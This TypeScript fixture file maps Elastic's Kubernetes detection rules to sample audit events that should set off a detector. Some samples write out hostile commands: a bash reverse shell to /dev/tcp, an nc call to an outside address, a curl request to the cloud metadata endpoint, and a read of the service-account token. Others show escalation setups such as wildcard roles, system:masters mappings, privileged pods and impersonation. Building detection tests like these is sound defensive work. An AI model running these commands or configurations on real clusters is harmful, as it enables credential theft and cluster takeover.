import { by, elsewhere, needsNode, type OutsideList, row, type Trigger } from '../item.ts';
import {
  context,
  does,
  execs,
  given,
  givenToAgent,
  inAdmission,
  inRbac,
  mounts,
  pod,
  SPACE,
  together,
} from '../triggers.ts';

const RUNTIME = 'what a process does in a container is seen on its node only';
const KUBE_SYSTEM = { namespace: 'kube-system' };
const everybody = { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'system:anonymous' };
const anonymous = { creator: { username: 'system:anonymous', groups: ['system:unauthenticated'] } };
const robot = {
  creator: { username: 'system:serviceaccount:shop:robot', groups: ['system:serviceaccounts', 'system:authenticated'] },
};
const systemPod = does('create', 'pods', { ...KUBE_SYSTEM, name: 'helper', body: podBody('kube-system', 'helper') });
const csr = (verb: string, resource: string): Trigger =>
  does(verb, resource, { group: 'certificates.k8s.io', name: 'c' });
const coreDns = does('patch', 'configmaps', {
  ...KUBE_SYSTEM,
  name: 'coredns',
  body: { data: { Corefile: '.:53 {}' } },
});
const service = {
  '/api/v1/services': [
    {
      metadata: { namespace: SPACE, name: 'web', uid: '11111111-2222-4333-8444-555555555556' },
      spec: { type: 'NodePort', ports: [{ port: 80, nodePort: 30080 }] },
    },
  ],
};
const cron = {
  '/apis/batch/v1/cronjobs': [
    {
      metadata: { namespace: SPACE, name: 'c', uid: '11111111-2222-4333-8444-555555555557' },
      spec: {
        schedule: '* * * * *',
        jobTemplate: {
          spec: { template: { spec: { containers: [{ name: 'c', image: 'registry.example.com/c:1' }] } } },
        },
      },
    },
  ],
};
const wildcard = inRbac('patch', 'clusterroles', {
  name: 'robot',
  body: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
});

function podBody(namespace: string, name: string, spec: object = {}) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { namespace, name },
    spec: { containers: [{ name: 'c', image: 'registry.example.com/c:1' }], ...spec },
  };
}

export const ELASTIC: OutsideList = {
  title: 'Elastic: detection rules for Kubernetes',
  source: 'https://github.com/elastic/detection-rules/tree/main/rules/integrations/kubernetes',
  items: [
    {
      id: 'af_packet_socket_created_in_container',
      what: 'A container listens to the traffic of its node.',
      answer: needsNode(RUNTIME),
    },
    {
      id: 'azure_arc_proxy_secret_configmap_access',
      what: "Secrets or ConfigMaps by the proxy of Azure's Arc.",
      answer: elsewhere('it is about clusters on Azure'),
    },
    {
      id: 'get_secrets_access',
      what: 'Secrets are read one by one.',
      answer: by('secrets-read', does('get', 'secrets', { namespace: 'default', name: 's', times: 12 })),
    },
    {
      id: 'kubernetes_env_vars_read_via_proc',
      what: 'A process reads the environment of others.',
      answer: needsNode(RUNTIME),
    },
    {
      id: 'multiple_secret_retrieval_burst',
      what: 'Many Secrets in a short time.',
      answer: by('secrets-read', does('get', 'secrets', { namespace: 'default', name: 's', times: 25 })),
    },
    {
      id: 'pod_exec_cloud_instance_metadata',
      what: 'A command in a pod asks for the credentials of its node.',
      answer: by('exec', execs('curl', 'http://169.254.169.254/latest/meta-data/')),
    },
    {
      id: 'pod_exec_sensitive_file_access',
      what: 'A command in a pod reads tokens or keys.',
      answer: by('exec', execs('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token')),
    },
    {
      id: 'secret_access_scripting_http_clients',
      what: 'Secrets are read with a client for scripts.',
      answer: by('new-user-agent', { ...does('list', 'secrets'), userAgent: 'python-requests/2.32' }),
    },
    {
      id: 'secret_read_by_node_or_pod_service_account',
      what: 'A ServiceAccount reads Secrets.',
      answer: by('secrets-read', { ...robot, ...does('list', 'secrets') }),
    },
    {
      id: 'secrets_list_cluster_and_sensitive_namespaces',
      what: 'All Secrets are listed, or those of the system.',
      answer: by('secrets-read', does('list', 'secrets', KUBE_SYSTEM)),
    },
    {
      id: 'service_account_token_created_via_tokenrequest',
      what: 'A token of a ServiceAccount is issued.',
      answer: by('token-request', does('create', 'serviceaccounts/token', { namespace: 'default', name: 'builder' })),
    },
    {
      id: 'unusual_service_account_secret_get',
      what: 'A ServiceAccount reads Secrets as it never did.',
      answer: by('secrets-read', {
        ...robot,
        ...does('get', 'secrets', { namespace: 'default', name: 's', times: 12 }),
      }),
    },
    {
      id: 'events_deleted',
      what: 'Events are deleted.',
      answer: by('event-deletion', does('deletecollection', 'events', { namespace: SPACE })),
    },
    {
      id: 'user_impersonation',
      what: 'An identity acts as another one.',
      answer: by('impersonation', { as: { username: 'root', groups: ['system:masters'] } }),
    },
    {
      id: 'workload_sidecar_injection',
      what: 'A workload that runs is given one more container.',
      answer: row(
        'actor-activity',
        'patch',
        does('patch', 'deployments', {
          group: 'apps',
          namespace: 'default',
          name: 'shop',
          body: {
            spec: { template: { spec: { containers: [{ name: 'extra', image: 'registry.example.com/x:1' }] } } },
          },
        }),
      ),
    },
    {
      id: 'denied_service_account_request',
      what: 'A ServiceAccount is refused.',
      answer: row('actor-activity', 'refusedBefore":1', {
        ...robot,
        ...does('list', 'nodes', { code: 403, before: true }),
      }),
    },
    {
      id: 'endpoint_permission_enumeration_by_anonymous_user',
      what: 'Somebody without an identity tries what is allowed.',
      answer: by('anonymous-creator', anonymous),
    },
    {
      id: 'endpoint_permission_enumeration_by_user_and_srcip',
      what: 'An identity tries many things, and is refused many.',
      answer: by('right-probe', {
        requests: ['secrets', 'pods', 'persistentvolumes', 'namespaces'].map((resource) => ({
          verb: resource === 'secrets' ? 'list' : resource === 'namespaces' ? 'patch' : 'create',
          resource,
          code: 403,
          before: true,
        })),
      }),
    },
    {
      id: 'multi_resource_setup_recon',
      what: 'An identity lists one kind of object after the other.',
      answer: row('actor-activity', 'clusterrolebindings', {
        requests: ['pods', 'secrets', 'nodes']
          .map((resource) => ({ verb: 'list', resource, before: true }))
          .concat([{ verb: 'list', resource: 'clusterrolebindings', before: true }]),
      }),
    },
    {
      id: 'suspicious_self_subject_review',
      what: 'A ServiceAccount asks what it may do.',
      answer: by('permission-discovery', {
        ...robot,
        ...does('create', 'selfsubjectaccessreviews', { group: 'authorization.k8s.io', times: 4 }),
      }),
    },
    {
      id: 'anonymous_create_update_patch_pod_request',
      what: 'Pods by somebody without an identity.',
      answer: by('anonymous-creator', { ...anonymous, ...pod({}) }),
    },
    {
      id: 'common_debug_or_base_image_pod_creation',
      what: 'A pod of an image for debugging.',
      answer: row('namespace-activity', 'busybox', pod({}, { image: 'docker.io/library/busybox:1' })),
    },
    {
      id: 'forbidden_creation_request',
      what: 'Something was to be made, and refused.',
      answer: by('refused-then-done', does('patch', 'namespaces', { name: SPACE, code: 403, before: true })),
    },
    {
      id: 'forbidden_request_from_unusual_user_agent',
      what: 'A refused request with a client never seen.',
      answer: by('new-user-agent', { ...does('list', 'nodes', { code: 403, before: true }), userAgent: 'sqlmap/1.9' }),
    },
    {
      id: 'exec_with_external_ip_in_command',
      what: 'A command in a pod names an address outside.',
      answer: by('exec', execs('nc', '198.51.100.9', '4444')),
    },
    {
      id: 'network_tool_launched_in_container',
      what: 'A tool for scans runs in a container.',
      answer: needsNode(RUNTIME),
    },
    {
      id: 'pod_exec_curl_wget_https',
      what: 'A command in a pod fetches something.',
      answer: by('exec', execs('curl', 'https://files.example.net/x')),
    },
    {
      id: 'pod_exec_potential_reverse_shell',
      what: 'A command in a pod hands a shell to the network.',
      answer: by('exec', execs('bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')),
    },
    {
      id: 'remote_file_copy_tool_in_container',
      what: 'A tool that copies files runs in a container.',
      answer: needsNode(RUNTIME),
    },
    {
      id: 'pod_created_in_kube_namespace',
      what: "A pod among the system's own.",
      answer: by('system-workload', systemPod),
    },
    {
      id: 'suspicious_assignment_of_controller_service_account',
      what: 'A pod has the account of a controller.',
      answer: by(
        'system-workload',
        does('create', 'pods', {
          ...KUBE_SYSTEM,
          name: 'helper',
          body: podBody('kube-system', 'helper', { serviceAccountName: 'daemon-set-controller' }),
        }),
      ),
    },
    {
      id: 'unusual_request_response_by_user_agent',
      what: 'A client that was never seen.',
      answer: by('new-user-agent', { userAgent: 'peirates/1.1' }),
    },
    { id: 'user_exec_to_pod', what: 'A shell in a pod.', answer: by('exec', execs('sh')) },
    {
      id: 'argocd_resource_manually_modified',
      what: 'What Argo CD keeps is changed by hand.',
      answer: elsewhere('what GitOps keeps elsewhere is not in the new namespace'),
    },
    {
      id: 'coredns_or_kube_dns_configuration_modified',
      what: "The cluster's DNS is changed.",
      answer: by('dns-change', coreDns),
    },
    {
      id: 'anonymous_request_authorized',
      what: 'A request without an identity is allowed.',
      answer: by('anonymous-creator', anonymous),
    },
    {
      id: 'anonymous_user_bound_to_clusterrole',
      what: 'A role for requests without an identity.',
      answer: by('role-for-everybody', { bound: { role: 'view', subjects: [everybody] } }),
    },
    {
      id: 'cluster_admin_rolebinding_created',
      what: 'cluster-admin is bound.',
      answer: by('wide-binding', { bound: { role: 'cluster-admin' } }),
    },
    {
      id: 'exposed_service_created_with_type_nodeport',
      what: 'A port of every node is opened.',
      answer: by('node-port', { objects: service }),
    },
    {
      id: 'admission_webhook_created_or_modified',
      what: 'An admission webhook is made or changed.',
      answer: by('webhook-change', inAdmission('create', 'validatingwebhookconfigurations')),
    },
    {
      id: 'client_certificate_signing_request_created_or_approved',
      what: 'A certificate is requested and approved.',
      answer: by('certificate-approval', csr('update', 'certificatesigningrequests/approval')),
    },
    { id: 'cron_job_created', what: 'A CronJob.', answer: by('daemonset-or-cronjob', { objects: cron }) },
    {
      id: 'eks_aws_auth_configmap_modified',
      what: 'It is changed who IAM identities are in the cluster.',
      answer: by(
        'recent-access-change',
        does('patch', 'configmaps', {
          ...KUBE_SYSTEM,
          name: 'aws-auth',
          body: {
            data: {
              mapRoles: '- rolearn: arn:aws:iam::111122223333:role/Dev\n  username: dev\n  groups: [system:masters]\n',
            },
          },
        }),
      ),
    },
    {
      id: 'security_critical_configmap_modified',
      what: 'A ConfigMap that the system lives by is changed.',
      answer: by('dns-change', coreDns),
    },
    {
      id: 'static_pod_manifest_created',
      what: 'A pod is put into the folder of a kubelet.',
      answer: needsNode('the folder is on the node'),
    },
    {
      id: 'sensitive_role_creation_or_modification',
      what: 'A role with rights that lead to more is written.',
      answer: by('wide-binding', given('', 'secrets,pods/exec', '*')),
    },
    {
      id: 'service_account_bound_to_clusterrole',
      what: 'A ServiceAccount is bound to a role of the cluster.',
      answer: by('strong-binding', givenToAgent('', 'secrets', 'get,list')),
    },
    {
      id: 'api_proxy_to_node',
      what: 'The API server is used as a way to a node.',
      answer: by('kubelet-command', does('create', 'nodes/proxy', { name: 'n1' })),
    },
    {
      id: 'container_created_with_excessive_linux_capabilities',
      what: 'A container has capabilities that lead out of it.',
      answer: by('host-access-workload', context({ capabilities: { add: ['SYS_ADMIN', 'BPF'] } })),
    },
    {
      id: 'api_request_impersonating_privileged_identity',
      what: 'An identity acts as a privileged one.',
      answer: by('impersonation', { as: { username: 'system:kube-controller-manager', groups: [] } }),
    },
    {
      id: 'api_server_proxy_request_to_kubelet',
      what: 'A command goes to a kubelet past the API.',
      answer: by('kubelet-command', does('create', 'nodes/proxy', { name: 'n1' })),
    },
    {
      id: 'cri_client_executed_in_container',
      what: 'A client of the container runtime runs in a container.',
      answer: by('host-access-workload', mounts('/run/containerd/containerd.sock')),
    },
    {
      id: 'ephemeral_container_added_to_pod',
      what: 'One more container in a running pod.',
      answer: by('exec', does('patch', 'pods/ephemeralcontainers', { namespace: SPACE, name: 'web-0' })),
    },
    {
      id: 'pod_created_with_hostipc',
      what: "A pod shares its node's memory.",
      answer: by('host-access-workload', pod({ hostIPC: true })),
    },
    {
      id: 'pod_created_with_hostnetwork',
      what: "A pod uses its node's network.",
      answer: by('host-access-workload', pod({ hostNetwork: true })),
    },
    {
      id: 'pod_created_with_hostpid',
      what: "A pod sees its node's processes.",
      answer: by('host-access-workload', pod({ hostPID: true })),
    },
    {
      id: 'pod_created_with_sensitive_hostpath_volume',
      what: 'A pod mounts files of its node that matter.',
      answer: by('host-access-workload', mounts('/etc')),
    },
    {
      id: 'privileged_pod_created',
      what: 'A privileged pod.',
      answer: by('host-access-workload', context({ privileged: true })),
    },
    {
      id: 'role_patch_wildcard_verbs_resources_response',
      what: 'A role is changed to allow everything.',
      answer: by(
        'wide-binding',
        together(wildcard, {
          bound: { role: 'robot' },
          objects: {
            '/apis/rbac.authorization.k8s.io/v1/clusterroles': [
              {
                metadata: { name: 'robot', uid: '11111111-2222-4333-8444-555555555558' },
                rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
              },
            ],
          },
        }),
      ),
    },
    {
      id: 'sensitive_rbac_change_followed_by_workload_modification',
      what: 'Rights are given, and used by a workload at once.',
      answer: by('wide-binding', together(given('*', '*', '*'), pod({}))),
    },
    {
      id: 'sensitive_workload_modification_by_user_agent',
      what: 'A workload is changed with a client never seen.',
      answer: by('new-user-agent', { ...pod({}), userAgent: 'Go-http-client/2.0' }),
    },
    {
      id: 'service_account_rbac_write_operation',
      what: 'A ServiceAccount writes rights.',
      answer: by('wide-binding', { ...robot, bound: { role: 'cluster-admin' } }),
    },
    {
      id: 'suspicious_change_to_privileges_of_running_security_context',
      what: 'A process takes more privileges.',
      answer: needsNode(RUNTIME),
    },
  ],
};
